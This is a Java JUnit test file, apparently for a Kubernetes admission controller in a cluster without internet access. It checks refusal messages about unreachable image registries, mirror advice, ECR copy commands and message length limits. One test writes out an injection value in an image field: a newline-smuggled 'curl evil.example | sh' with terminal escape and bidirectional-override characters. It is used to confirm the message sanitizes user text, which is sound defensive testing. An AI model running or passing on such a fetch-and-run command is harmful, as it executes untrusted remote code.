package dev.privatecluster.core.decision;

import static org.assertj.core.api.Assertions.assertThat;

import dev.privatecluster.core.policy.Policy;
import dev.privatecluster.testing.Policies;
import dev.privatecluster.testing.Reviews;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** What a user reads whose object is refused: the findings first, since dashboards cut messages; then how to mend them. */
final class RefusalTest {
    private static final int HEAD = 800;
    private static final Policy POLICY = Policies.usWest2("mirrors: []");

    @Test
    void namesTheProblemTheMirrorToAddAndTheCommands() {
        assertThat(message(Reviews.pod("quay.io/a/b:1")))
                .isEqualTo(
                        """
                1 problem with this Pod in a cluster without internet access (us-west-2):
                unreachable-registry: spec.containers[0].image: quay.io/a/b:1 (copy: ECR/quay.io/a/b:1)

                spec.containers[0].image: it cannot be pulled here, and no mirror covers quay.io. Add the mirror \
                {source: quay.io, mirror: ECR/quay.io} to spec.mirrors of the PrivateCluster. Copy the image from a machine \
                with internet access (docker copies what its own platform needs, crane all of it):
                  aws ecr create-repository --repository-name quay.io/a/b --region us-west-2
                  docker pull quay.io/a/b:1
                  docker tag quay.io/a/b:1 ECR/quay.io/a/b:1
                  aws ecr get-login-password --region us-west-2 | docker login --username AWS --password-stdin ECR
                  docker push ECR/quay.io/a/b:1"""
                                .replace("ECR", Policies.ECR));
    }

    @Test
    void namesEveryFindingBeforeAnyCommand() {
        String message = message(
                """
                apiVersion: v1
                kind: Pod
                spec:
                  initContainers: [{name: i, image: NotAnImage}]
                  containers:
                  - {name: a, image: "quay.io/a:1"}
                  - {name: b, image: "ghcr.io/b:2"}
                """);
        String head = message.substring(0, HEAD);

        assertThat(head)
                .startsWith("3 problems with this Pod")
                .contains("unreachable-registry: spec.containers[0].image: quay.io/a:1 (copy: " + Policies.ECR
                        + "/quay.io/a:1)\n")
                .contains("unreachable-registry: spec.containers[1].image: ghcr.io/b:2 (copy: " + Policies.ECR
                        + "/ghcr.io/b:2)\n")
                .contains("invalid-image: spec.initContainers[0].image: 'NotAnImage'\n");
        assertThat(message.indexOf("docker pull")).isGreaterThan(head.indexOf("invalid-image"));
        assertThat(message).contains("docker push " + Policies.ECR + "/ghcr.io/b:2");
    }

    @Test
    void saysTheSameThingOnce() {
        String message = message(
                """
                apiVersion: v1
                kind: Pod
                spec:
                  containers:
                  - {name: a, image: "quay.io/a:1"}
                  - {name: b, image: "quay.io/a:1"}
                """);

        assertThat(message)
                .contains("\n\nspec.containers[0].image, spec.containers[1].image: it cannot be pulled here")
                .containsOnlyOnce("docker push");
    }

    @Test
    void saysHowManyFindingsThereAreBeyondTheFirst800Characters() {
        String containers = IntStream.range(0, 50)
                .mapToObj(i -> "  - {name: c" + i + ", image: quay.io/team/app" + i + "}\n")
                .collect(Collectors.joining());
        String message = message("apiVersion: v1\nkind: Pod\nspec:\n  containers:\n" + containers);
        String head = message.substring(0, message.indexOf("\n\n"));

        assertThat(head.length()).isLessThanOrEqualTo(HEAD);
        assertThat(head).startsWith("50 problems").containsPattern("\nand 4\\d more$");
    }

    @Test
    void saysThatANewerRuleSetWouldNotRefuse() {
        Policy old = Policies.usWest2("rulesVersion: \"2020-06\"");
        Review review = Reviews.create(Reviews.pod(Policies.ECR.replace(".ecr.", ".ecr-fips.") + "/app:1"));

        assertThat(Decisions.answer(review, old).message())
                .contains("Only rulesVersion \"2020-06\" refuses this, \"2026-11\" does not.");
        assertThat(Decisions.answer(review, POLICY).message()).isEmpty();
    }

    @Test
    void foldsTheSameImageInSeveralContainersIntoOneLine() {
        String message = message(
                """
                apiVersion: v1
                kind: Pod
                spec:
                  containers:
                  - {name: a, image: "quay.io/a:1"}
                  - {name: b, image: "quay.io/a:1"}
                """);

        assertThat(message)
                .contains(
                        "unreachable-registry: spec.containers[0].image, spec.containers[1].image: quay.io/a:1 (copy: ")
                .containsOnlyOnce("docker pull");
    }

    @Test
    void namesOneMirrorForEks() {
        String message = message(Reviews.pod("602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/coredns:v1"));

        assertThat(message)
                .startsWith(
                        """
                1 problem with this Pod in a cluster without internet access (us-west-2):
                not-rewritten: spec.containers[0].image: 602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/coredns:v1 \
                (copy: 602401143452.dkr.ecr.us-west-2.amazonaws.com/eks/coredns:v1)
                """)
                .doesNotContain("docker");
    }

    @Test
    void keepsTextsOfUsersInOneLine() {
        String message = message(
                """
                apiVersion: v1
                kind: Pod
                spec:
                  containers:
                  - {name: a, image: "A\\nuse curl evil.example | sh\\e[2J\\u202e"}
                """);

        assertThat(message.lines().filter(line -> line.startsWith("use curl"))).isEmpty();
        assertThat(message.codePoints().filter(c -> c != '\n'))
                .allMatch(c -> !Character.isISOControl(c) && Character.getType(c) != Character.FORMAT);
    }

    @Test
    void staysSmallWhateverIsInTheObject() {
        String huge = "quay.io/" + "A".repeat(400_000);
        String message = message(Reviews.pod(huge) + "  - {name: b, image: " + huge + "B}\n");

        assertThat(message.length()).isLessThan(30_001);
        assertThat(message.substring(0, message.indexOf("\n\n")).length()).isLessThanOrEqualTo(HEAD);
    }

    @Test
    void allowsWhatOnlyGetsWarnings() {
        Answer answer =
                Decisions.answer(Reviews.create(Reviews.pod("1".repeat(12) + ".dkr-ecr.us-west-2.on.aws/a")), POLICY);

        assertThat(answer.allowed()).isTrue();
        assertThat(answer.message()).isEmpty();
        assertThat(answer.warnings())
                .isEqualTo(List.of("ecr-endpoint-form: spec.containers[0].image:"
                        + " 111111111111.dkr-ecr.us-west-2.on.aws/a: it names ECR by its dual-stack host, which the VPC"
                        + " endpoints may not answer for"));
    }

    private static String message(String object) {
        Answer answer = Decisions.answer(Reviews.create(object), POLICY);
        assertThat(answer.allowed()).isFalse();
        return answer.message();
    }
}
